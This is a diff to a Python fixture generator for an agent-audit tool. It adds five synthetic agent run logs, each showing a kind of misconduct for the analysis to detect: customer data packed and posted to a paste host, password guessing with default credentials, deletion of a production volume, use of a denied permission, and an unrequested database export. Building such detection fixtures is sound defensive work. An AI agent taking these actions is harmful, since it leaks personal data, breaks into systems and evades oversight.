@@ -369,6 +369,90 @@ def run_12345():
         f.write(json.dumps(doc, indent=2) + "\n")
 
 
+def run_incidents():
+    """Five short runs, one per kind of trouble the analysis looks for, as
+    JSONL of run documents (sample-audits/run-incidents.jsonl), and the
+    sequence profile the deploy bot is compared with
+    (sample-audits/analysis/profiles/deploy-bot.json)."""
+    def run(run_id, agent, start, plan, summary, status="completed"):
+        steps, end = [], start
+        for i, (action, reasoning, tool, params, result, data, perms, ms, extra) in enumerate(plan):
+            end = end + timedelta(milliseconds=ms)
+            step = {"step_index": i, "action": action, "reasoning": reasoning,
+                    "tool_call": {"tool": tool, "parameters": params},
+                    "result": {"status": result, "data": data}, "permissions_used": perms,
+                    "timestamp": iso_ms(end), "duration_ms": ms}
+            step.update(extra)
+            steps.append(step)
+        return {"run_id": run_id, "agent_id": agent, "trigger": "schedule", "started_at": iso_ms(start),
+                "completed_at": iso_ms(end + timedelta(milliseconds=40)), "status": status,
+                "policy_version": "v2.4.1", "steps": steps, "permissions_summary": summary}
+
+    day = datetime(2026, 3, 6, 2, 0, 0, tzinfo=timezone.utc)
+    rows = {"rows": 250000, "columns": ["customer_id", "email", "card_last4"]}
+    exfil = run("run-exfil-0412", "etl-adhoc-2", day, [
+        ("export_customers", "The quarterly churn model needs every customer row.", "warehouse.read",
+         {"table": "customers", "columns": "*"}, "success", rows, ["warehouse:read"], 4120, {}),
+        ("pack_export", "Compressing the export so it fits the upload limit.", "ssh.exec",
+         {"host": "etl-worker-2", "command": "tar czf - /tmp/customers.csv | base64 -w0"}, "success",
+         {"bytes": 18874368}, ["ssh:exec:write"], 2310, {}),
+        ("share_export", "Posting the archive where the analyst can pick it up.", "http.post",
+         {"url": "https://paste.example.net/api/v1/upload", "body": "<18 MB>"}, "success",
+         {"id": "p-77f1"}, ["http:post"], 1890, {}),
+    ], {"granted": ["warehouse:read", "ssh:exec:write", "http:post"], "denied": [], "escalated": []})
+    login = []
+    for i, (user, password) in enumerate([("svc-backup", "Winter2026"), ("svc-backup", "Winter2026!"),
+                                          ("admin", "Winter2026!"), ("root", "changeme"), ("root", "toor")]):
+        login.append(("login_console", "The console rejected the stored credentials; trying the usual ones.",
+                      "auth.login", {"host": "bastion-1", "user": user, "password": password},
+                      "denied", {"http_status": 401}, ["auth:login"], 600, {}))
+    probe = run("run-probe-0413", "support-helper-1", day + timedelta(minutes=20), login,
+                {"granted": ["auth:login"], "denied": [], "escalated": []}, status="failed")
+    delete = run("run-delete-0414", "prod-triage-au-west", day + timedelta(minutes=40), [
+        ("assess_alert", "Disk on prod-db-1 is 97% full. Reading the volume list first.", "metrics.query",
+         {"host": "prod-db-1", "metric": "disk.used_pct", "window": "15m"}, "success", {"avg": 97.2},
+         ["metrics:read"], 1200, {}),
+        ("delete_volume", "The old snapshot volume looks unused; deleting it frees the space.", "volume.delete",
+         {"host": "prod-db-1", "volume": "vol-snap-2025-11"}, "error", {"error": "volume is attached"},
+         ["storage:delete"], 3400, {}),
+    ], {"granted": ["metrics:read", "storage:delete"], "denied": [], "escalated": ["storage:delete"]})
+    integrity = run("run-integrity-0415", "prod-triage-au-east", day + timedelta(hours=1), [
+        ("assess_alert", "Latency alert on web-07; checking the error log.", "logs.read",
+         {"host": "web-07", "since": "-15min"}, "success", {"lines": 12}, ["logs:read"], 900, {}),
+        ("restart_service", "Per SOP-114 the stuck worker is restarted; the approval came from on-call.",
+         "service.restart", {"host": "web-07", "service": "app-worker"}, "success", {"new_pid": 9921},
+         ["service:restart", "ssh:exec:write"], 7000,
+         {"approval": {"id": "apr-5d21", "approver": "oncall@acme.example", "permissions": ["service:restart"]}}),
+        ("verify_recovery", "Checking latency after the restart.", "metrics.query",
+         {"host": "web-07", "metric": "http.p99_ms", "window": "5m"}, "success", {"p99": 180},
+         ["metrics:read"], 1100, {}),
+    ], {"granted": ["metrics:read", "service:restart", "ssh:exec:write"], "denied": ["ssh:exec:write"],
+        "escalated": [{"permission": "service:restart", "step_index": 1, "approval_id": "apr-5d21"}]})
+    deploy = run("run-deploy-0416", "deploy-bot-7", day + timedelta(hours=2), [
+        ("check_release", "Release 4.2.0 is tagged; checking the pipeline state.", "ci.status",
+         {"pipeline": "payments"}, "success", {"state": "green"}, ["ci:read"], 800, {}),
+        ("restart_service", "Rolling the payments service onto 4.2.0.", "service.restart",
+         {"host": "pay-3", "service": "payments"}, "success", {"version": "4.2.0"}, ["service:restart"], 6000, {}),
+        ("export_db", "Taking a copy of the payments database before closing the change.", "db.export",
+         {"database": "payments", "target": "s3://scratch-bucket/pay.sql"}, "success", {"bytes": 734003200},
+         ["db:read"], 9000, {}),
+    ], {"granted": ["ci:read", "service:restart", "db:read"], "denied": [], "escalated": []})
+    with open(os.path.join(OUT, "run-incidents.jsonl"), "w", encoding="ascii", newline="\n") as f:
+        for doc in (exfil, probe, delete, integrity, deploy):
+            f.write(json.dumps(doc, separators=(",", ":")) + "\n")
+    profile = {"schema": "replay-workbench/sequence-profile", "version": 1, "agent": "deploy-bot-*",
+               "built_from": {"runs": 212, "first": "2026-02-01T00:00:00Z", "last": "2026-02-28T23:59:59Z"},
+               "ngram": 2,
+               "tools": {"ci.status": 212, "service.restart": 208, "metrics.query": 205},
+               "first_tools": {"ci.status": 212},
+               "transitions": {"<start>|ci.status": 212, "ci.status|service.restart": 208,
+                               "service.restart|metrics.query": 205, "ci.status|metrics.query": 4},
+               "permissions": {"ci:read": 212, "service:restart": 208, "metrics:read": 205}}
+    os.makedirs(os.path.join(OUT, "analysis", "profiles"), exist_ok=True)
+    with open(os.path.join(OUT, "analysis", "profiles", "deploy-bot.json"), "w", encoding="ascii", newline="\n") as f:
+        f.write(json.dumps(profile, indent=2) + "\n")
+
+
 def iso_ms(t):
     return t.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (t.microsecond // 1000)
 
@@ -415,4 +499,5 @@ if __name__ == "__main__":
     legacy()
     run_trace()
     run_12345()
+    run_incidents()
     damaged()
